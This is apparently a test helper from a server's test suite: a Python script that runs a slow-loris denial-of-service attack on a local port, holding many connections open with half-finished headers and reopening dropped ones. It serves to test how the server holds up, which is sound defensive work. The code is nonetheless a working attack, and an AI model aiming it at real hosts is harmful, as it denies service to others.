"""A slow-loris attacker in its own process: `python -m tests.fakes.slowloris PORT COUNT SECONDS`.

COUNT connections each send a request line and then one header line every half second, never
finishing the head; a connection the server drops is opened again on the next round (as the
classic tool does), so the attack keeps COUNT connections going. At the end it prints
one JSON line: how many connections were made and how many answers (by status line) came back.
Run apart from the test so the attack does not slow the test's own /healthz client.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
from collections import Counter


async def attack(port: int, count: int, seconds: float) -> dict[str, object]:
    stop = asyncio.Event()
    answers: Counter[str] = Counter()
    opened = 0

    async def one() -> None:
        nonlocal opened
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.2)
                continue
            opened += 1
            try:
                writer.write(b"POST /wechat HTTP/1.1\r\nHost: warmline\r\n")
                while not stop.is_set():
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.5):
                            got = await reader.read(64)
                            answers[got.split(b"\r\n")[0].decode("latin-1") or "closed"] += 1
                            break
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
            except OSError:
                answers["reset"] += 1
            finally:
                writer.close()
            await asyncio.sleep(0.5)  # the next round opens a new one

    tasks = [asyncio.create_task(one()) for _ in range(count)]
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    return {"opened": opened, "answers": dict(answers)}


if __name__ == "__main__":
    port, count, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    print(json.dumps(asyncio.run(attack(port, count, seconds))), flush=True)
